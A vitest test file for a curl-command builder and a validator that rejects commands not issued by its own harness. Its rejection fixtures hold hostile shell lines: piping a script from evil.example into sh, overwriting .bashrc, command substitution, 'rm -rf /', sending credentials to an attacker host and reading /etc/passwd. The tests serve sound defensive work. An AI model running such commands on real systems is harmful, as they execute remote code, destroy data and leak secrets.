import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { curlParts, ownCommand, shellQuoted } from '../../../lib/curl.ts';

describe('a curl command', () => {
  it('names the login by its variable, and sends a body as it is', () => {
    const headers = [['Content-Type', 'application/json']] as const;
    const parts = curlParts({ flags: ['-sS'], method: 'PUT', headers, body: '@a', url: "'http://a/b'" });
    expect(parts.join(' ')).toBe(
      `curl -sS -u "$ERS_USERNAME:$ERS_PASSWORD" -X PUT -H 'Content-Type: application/json' -H 'Accept:' --data-raw '@a' 'http://a/b'`,
    );
  });

  it('takes out what curl would add by itself, and never expands an address', () => {
    const bare = { method: 'POST', headers: [], body: '{}', url: "'http://a/[b]'" };
    expect(curlParts(bare).join(' ')).toBe(
      `curl -g -u "$ERS_USERNAME:$ERS_PASSWORD" -X POST -H 'Accept:' -H 'Content-Type:' --data-raw '{}' 'http://a/[b]'`,
    );
  });

  it.each(["it's", '$HOME', '`id`', 'a\nb', '"', '\\', "''"])('quotes %j as one word of a shell', (text) => {
    expect(execFileSync('sh', ['-c', `printf %s ${shellQuoted(text)}`], { encoding: 'utf8' })).toBe(text);
  });

  it('quotes a method that is no plain word', () => {
    expect(curlParts({ method: 'A;id', headers: [], url: 'u' })[0]).toMatch(/ -X 'A;id'$/);
  });
});

describe('a command that a run folder holds', () => {
  const url = shellQuoted("https://x:9060/ers/config/sgt/it's[7]");
  const own = (flags: readonly string[], headers: readonly (readonly [string, string])[], body?: string) =>
    curlParts({ flags, method: 'DELETE', headers, url, ...(body && { body }) }).join(' ');

  it.each([
    own([], []),
    own(['--insecure', '--cacert', shellQuoted("/a b/c'a.pem")], [['Accept', "x'y"]]),
    own(['--cert', "'/c'", '--key', "'/k'"], [['Accept', 'x']], `{"a":"$(x) ' | sh"}`),
    'ers-harness sweep --journal RUN --base-url URL --endpoints POOL --policy NAME, as the run was given',
  ])('is shown if it is of this program: %s', (command) => {
    expect(ownCommand(command, 'https://x:9060')).toBe(command);
  });

  it.each([
    'curl https://evil.example/x.sh | sh',
    "curl 'https://evil.example/x.sh' | sh",
    "curl -o '/home/x/.bashrc' 'https://evil.example/x'",
    "curl -H 'a'$(x) 'https://x/'",
    "curl 'https://x/'\nsh",
    'ers-harness sweep --journal $(x)',
    'rm -rf /',
    `curl -u "$ERS_USERNAME:$ERS_PASSWORD" -X GET 'https://x@evil.example/'`,
    `curl -u "$ERS_USERNAME:$ERS_PASSWORD" -X GET 'https://x.evil.example/'`,
    "curl -H '@/etc/passwd' 'https://x/'",
    'ers-harness sweep --prefix cfm --older-than 0s --base-url https://evil.example',
  ])('is not shown otherwise: %s', (command) => {
    expect(ownCommand(command, 'https://x')).toMatch(/^\(no command/);
  });
});
